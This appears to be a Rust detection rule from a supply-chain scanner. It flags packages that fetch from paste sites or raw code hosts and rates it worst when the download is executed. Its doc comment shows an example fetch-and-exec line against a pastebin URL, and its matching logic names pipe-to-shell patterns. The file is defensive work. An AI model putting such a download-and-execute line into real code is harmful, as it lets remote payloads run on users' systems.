use ossprey_model::{Category, Finding, Severity};
use ossprey_static::analysis::RunsAt;
use ossprey_static::facts::text::ServiceClass;

use super::util::{
    context_severity, executes_near, has_network_call, is_package_json, is_placeholder,
    service_mentions, text_fetches,
};
use crate::{Input, Rule, finding};

/// ## What it does
/// Finds code that fetches from a paste site (pastebin, rentry, hastebin, paste.ee…),
/// Discord's attachment CDN, or a raw code host (`raw.githubusercontent.com`, gist
/// raw): the URL is in a string of a file that also makes a network call, or in a
/// command line that downloads. It is worse when, a few lines away, the code runs a
/// process or evaluates code it did not write, or pipes the download into a shell.
///
/// ## Why is this bad?
/// Paste sites and raw code hosts are the commonest place to keep a second stage: the
/// package stays small and clean-looking, and the author can change what it runs at
/// any time. A raw URL feeding `exec`, `eval` or a downloaded-then-run file is the
/// download-and-execute shape. Fetching a data file from GitHub is ordinary, so that
/// alone counts only at install and import time.
///
/// ## Example
/// ```python
/// code = urllib.request.urlopen("https://pastebin.com/raw/AbCd1234").read()
/// exec(code)
/// ```
#[derive(Debug)]
pub struct PasteCodeHost;

impl Rule for PasteCodeHost {
    fn id(&self) -> &'static str {
        "NET-PASTE-CODE-HOST"
    }
    fn category(&self) -> Category {
        Category::NETWORK
    }
    fn summary(&self) -> &'static str {
        "code fetches from a paste site or raw code host, worst when it runs what it gets"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        let mut seen_files = std::collections::HashSet::new();
        for m in service_mentions(input, &[ServiceClass::Paste, ServiceClass::CodeHost]) {
            let paste = !matches!(
                m.entry,
                "raw.githubusercontent.com" | "gist.githubusercontent.com" | "raw.githack.com"
            );
            if is_placeholder(&m.rest) || m.rest.trim_matches('/').len() < 4 {
                continue;
            }
            let fetches = text_fetches(&m.text)
                || is_package_json(m.file)
                || m.file.source.as_ref().is_none_or(has_network_call);
            if !fetches {
                continue;
            }
            let runs = executes_near(m.file, m.line)
                || m.text.contains("| sh")
                || m.text.contains("|sh")
                || m.text.contains("| bash")
                || m.text.contains("| iex")
                || m.text.contains("iex(");
            // A fetch-and-run one-liner in one string or line (`exec(urlopen(…).read())`
            // written to a file to run later, `curl … | sh`) is the whole attack.
            let inline = m.text.contains("exec(")
                || m.text.contains("eval(")
                || m.text.contains("| sh")
                || m.text.contains("| bash");
            let runs = runs || inline;
            let base = match (runs, paste) {
                (true, true) if inline => Severity::Critical,
                (true, true) => Severity::High,
                (true, false) => Severity::Medium,
                (false, true) => Severity::Medium,
                // Fetching a file from GitHub when asked is ordinary.
                (false, false) if m.file.runs_at == RunsAt::Runtime && !is_package_json(m.file) => {
                    continue;
                }
                (false, false) => Severity::Info,
            };
            // One finding per file is enough; a bundle may list many raw URLs.
            if !seen_files.insert(m.file.path.as_str()) {
                continue;
            }
            let then = if runs {
                " and runs what it fetches"
            } else {
                ""
            };
            out.push(finding(
                self.id(),
                context_severity(base, m.file),
                self.category(),
                format!("code fetches from `{}`{then}", m.host),
                Some(&m.file.path),
                Some(m.line),
                Some(&m.text),
            ));
        }
    }
}
